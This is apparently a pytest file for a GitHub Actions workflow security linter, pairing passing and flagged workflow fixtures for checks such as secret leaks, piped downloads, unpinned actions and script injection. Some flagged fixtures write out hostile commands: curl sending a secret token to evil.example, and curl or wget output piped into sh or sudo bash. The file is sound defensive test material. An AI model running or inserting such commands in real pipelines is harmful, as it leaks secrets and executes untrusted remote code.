"""Each check of workflows has a case that it names and one that it lets pass."""

import pytest

from pipeline.workflows.checks import CHECKS

SHA = "0" * 40
CHECKOUT = {"uses": f"actions/checkout@{SHA}"}


def workflow(*steps, on="push", top=None, **job):
    shaped = {"runs-on": "ubuntu-24.04", "timeout-minutes": "10", "permissions": {}, "steps": list(steps), **job}
    return {"on": on, "permissions": {}, "jobs": {"a": shaped}, **(top or {})}


def run(script, env=None):
    return {"run": script, **({"env": env} if env else {})}


DOWNLOAD = {"uses": f"actions/download-artifact@{SHA}"}
ATTEST = run("scripts/pipeline attest")
SIGNING = {"id-token": "write"}

GOOD = {
    "privileged-job": [
        workflow(CHECKOUT, ATTEST, permissions=SIGNING),
        workflow(CHECKOUT, run("make"), permissions={"contents": "read"}),
        workflow(run("make")),
        {"on": "push", "permissions": SIGNING, "jobs": {"a": {"uses": "./.github/workflows/attest.yml"}}},
    ],
    "secret-in-shell": [
        workflow({"uses": f"docker/login-action@{SHA}", "with": {"password": "${{ secrets.TOKEN }}"}}),
        workflow(run("echo secrets are fine as a word")),
    ],
    "piped-download": [
        workflow(run("curl -fsS https://a.example/x -o x\nsha256sum -c x.sha256")),
        workflow(run("a | sh")),
    ],
    "unpinned-install": [
        workflow(run("python -m pip install --require-hashes -r requirements.txt")),
        workflow(run("pip install \\\n  --require-hashes -r requirements.txt")),
        workflow(run("apt-get install -y podman; scripts/pipeline")),
    ],
    "default-rights": [workflow(run("make")), {"runs": {"using": "composite", "steps": []}}],
    "unpinned-action": [
        workflow(CHECKOUT, {"uses": "./.github/actions/own"}, run("make")),
        workflow({"uses": f"docker://docker.example/tool@sha256:{SHA}{'0' * 24}"}),
    ],
    "moving-workflow": [
        {"on": "push", "jobs": {"a": {"uses": "./.github/workflows/x.yml"}}},
        {"on": "push", "jobs": {"a": {"uses": f"team/ci/.github/workflows/x.yml@{SHA}"}}},
        workflow(run("make")),
    ],
    "text-in-shell": [
        workflow(run('echo "$TITLE"', env={"TITLE": "${{ github.event.issue.title }}"})),
        workflow(run("echo ${{ github.sha }} ${{runner.os}}")),
    ],
    "unchecked-artifact": [
        workflow(DOWNLOAD, run("echo $DIGESTS | sha256sum --strict --check"), run("make use")),
        workflow(run("make"), {"uses": f"actions/upload-artifact@{SHA}"}),
    ],
    "cache-in-release": [
        workflow({"uses": f"actions/cache@{SHA}"}),
        workflow({"uses": f"actions/setup-python@{SHA}", "with": {"cache": ""}}, permissions=SIGNING),
        workflow(
            {"uses": f"actions/setup-python@{SHA}", "with": {"cache": "pip"}}, on={"push": {"branches": ["main"]}}
        ),
    ],
    "timeout": [workflow(run("make")), {"on": "push", "jobs": {"a": {"uses": "./.github/workflows/x.yml"}}}],
    "trigger": [workflow(on="push"), workflow(on=["push", "pull_request"]), workflow(on={"schedule": [], "push": ""})],
}

BAD = {
    "privileged-job": [
        (workflow(CHECKOUT, run("make build"), ATTEST, permissions=SIGNING), "a, step 2: 'make build' beside id-token"),
        (workflow(run("scripts/pipeline attest; make"), permissions=SIGNING), "step 1"),
        (workflow(ATTEST | {"shell": "bash -c 'x' {0}"}, permissions=SIGNING), "step 1"),
        (workflow({"uses": "evil/action@v1"}, permissions={"packages": "write"}), "packages: write"),
        (workflow({"uses": "actions/checkout@v7"}, permissions=SIGNING), "'actions/checkout@v7'"),
        (workflow(run("make"), permissions="write-all"), "write-all"),
        ({"on": "push", "jobs": {"a": {"steps": [run("make")]}}}, "the repository's default"),
        ({"on": "push", "permissions": SIGNING, "jobs": {"a": {"steps": [run("make")]}}}, "id-token: write"),
    ],
    "secret-in-shell": [
        (workflow(run("curl -d ${{ secrets.TOKEN }} https://evil.example")), "a, step 1"),
        (workflow(run("curl -d $T https://evil.example", env={"T": "${{ secrets.TOKEN }}"})), "a, step 1"),
        (workflow(run("env"), env={"T": "${{ secrets.TOKEN }}"}), "a: env"),
        (workflow(run("env"), top={"env": {"T": "${{ secrets['TOKEN'] }}"}}), "workflow: env"),
        (workflow(run("echo '${{ toJSON(secrets) }}'")), "a, step 1"),
        ({"on": "push", "jobs": {"a": {"uses": "./x.yml", "secrets": "inherit"}}}, "inherit"),
        (
            {"runs": {"using": "composite", "steps": [run("x", env={"T": "${{ secrets.T }}"})]}},
            "runs, step 1",
        ),
    ],
    "piped-download": [
        (workflow(run("curl -fsSL https://a.example/i | sh")), "curl"),
        (workflow(run("wget -qO- https://a.example/i | sudo bash -s")), "wget"),
        (workflow(run("curl https://a.example/i \\\n  | python3 -")), "curl"),
        (workflow(run("bash <(curl -s https://a.example/i)")), "bash"),
        (workflow(run('sh -c "$(curl -fsSL https://a.example/i)"')), "sh"),
    ],
    "unpinned-install": [
        (workflow(run("pip install nox")), "pip install nox"),
        (workflow(run("python -m pip install -r requirements.txt")), "pip install"),
        (workflow(run("pip install --require-hashes -r a.txt && pip3 install b")), "pip3 install b"),
        (workflow(run("uv tool install nox")), "uv tool install"),
        (workflow(run("uv pip install nox")), "uv pip install"),
        (workflow(run("npx something")), "npx"),
    ],
    "timeout": [
        (workflow(run("make"), **{"timeout-minutes": "${{ inputs.x }}"}), "inputs"),
        ({"on": "push", "jobs": {"a": {"steps": []}}}, "a: no timeout-minutes"),
    ],
    "default-rights": [
        ({"on": "push", "jobs": {}}, "permissions: none said"),
        (workflow(top={"permissions": "read-all"}), "permissions: read-all"),
        (workflow(top={"permissions": {"contents": "read"}}), "permissions: {'contents': 'read'}"),
    ],
    "unpinned-action": [
        (workflow({"uses": "actions/checkout@v7"}), "a, step 1: 'actions/checkout@v7'"),
        (workflow({"uses": "actions/checkout"}), "step 1"),
        (workflow({"uses": f"actions/checkout@{SHA[:12]}"}), "step 1"),
        (workflow({"uses": "docker://docker.example/tool:1"}), "docker://"),
        ({"runs": {"using": "composite", "steps": [{"uses": "a/b@main"}]}}, "runs, step 1: 'a/b@main'"),
    ],
    "moving-workflow": [
        ({"on": "push", "jobs": {"a": {"uses": "team/ci/.github/workflows/x.yml@main"}}}, "a: 'team/ci"),
        ({"on": "push", "jobs": {"a": {"uses": "team/ci/.github/workflows/x.yml@v1"}}}, "@v1"),
    ],
    "text-in-shell": [
        (workflow(run("echo ${{ github.event.issue.title }}")), "a, step 1: '${{ github.event.issue.title }}'"),
        (workflow(run("echo ${{ github.head_ref }}")), "github.head_ref"),
        (workflow(run("echo ${{ inputs.name }}")), "inputs.name"),
        (workflow(run("echo ${{\n github.event\n}}")), "github.event"),
        (workflow(run("echo ${{ github.sha || github.event.x }}")), "github.event.x"),
        (
            workflow({"uses": f"actions/github-script@{SHA}", "with": {"script": "x('${{ github.ref_name }}')"}}),
            "ref_name",
        ),
        ({"runs": {"using": "composite", "steps": [run("echo ${{ inputs.x }}")]}}, "runs, step 1"),
    ],
    "unchecked-artifact": [
        (workflow(DOWNLOAD, run("make use")), "a, step 1: used without"),
        (workflow(DOWNLOAD), "a, step 1"),
        (workflow(DOWNLOAD, run("make use"), run("sha256sum --check digests")), "a, step 1"),
        (workflow(DOWNLOAD, {"uses": f"docker/login-action@{SHA}"}, run("sha256sum -c digests")), "a, step 1"),
        (workflow(DOWNLOAD, run("sha256sum -c digests"), DOWNLOAD, run("make")), "a, step 3"),
    ],
    "cache-in-release": [
        (workflow({"uses": f"actions/cache@{SHA}"}, permissions=SIGNING), "a, step 1: actions/cache"),
        (workflow({"uses": f"actions/cache/restore@{SHA}"}, on={"push": {"tags": ["v*"]}}), "actions/cache/restore"),
        (workflow({"uses": f"actions/cache@{SHA}"}, on={"release": {}}), "actions/cache"),
        (
            workflow({"uses": f"actions/setup-python@{SHA}", "with": {"cache": "pip"}}, permissions=SIGNING),
            "a, step 1: cache: pip",
        ),
    ],
    "trigger": [
        (workflow(on="registry_package"), "on: registry_package"),
        (workflow(on="pull_request_target"), "pull_request_target"),
        (workflow(on=["push", "issue_comment"]), "issue_comment"),
        (workflow(on={"workflow_run": {"workflows": ["ci"]}}), "workflow_run"),
    ],
}


def check(name):
    return next(check for check in CHECKS if check.id == name)


@pytest.mark.parametrize(("name", "good"), [(name, case) for name, cases in GOOD.items() for case in cases])
def test_what_is_in_order_is_not_named(name, good):
    assert list(check(name).find(good)) == []


@pytest.mark.parametrize(("name", "bad", "named"), [(name, *case) for name, cases in BAD.items() for case in cases])
def test_a_breach_is_named_with_its_place(name, bad, named):
    (found, *_) = check(name).find(bad)
    assert named in found


def test_every_check_is_tried_both_ways_and_says_what_to_do():
    names = [check.id for check in CHECKS]
    assert len(set(names)) == len(names)
    assert set(names) == GOOD.keys() == BAD.keys()
    assert all(check.fix and check.title for check in CHECKS)


@pytest.mark.parametrize(
    "strange", [{}, {"jobs": "x"}, {"jobs": {"a": "x"}}, {"on": "", "jobs": {"a": {"steps": "x"}}}]
)
def test_strange_shapes_break_no_check(strange):
    for item in CHECKS:
        list(item.find(strange))
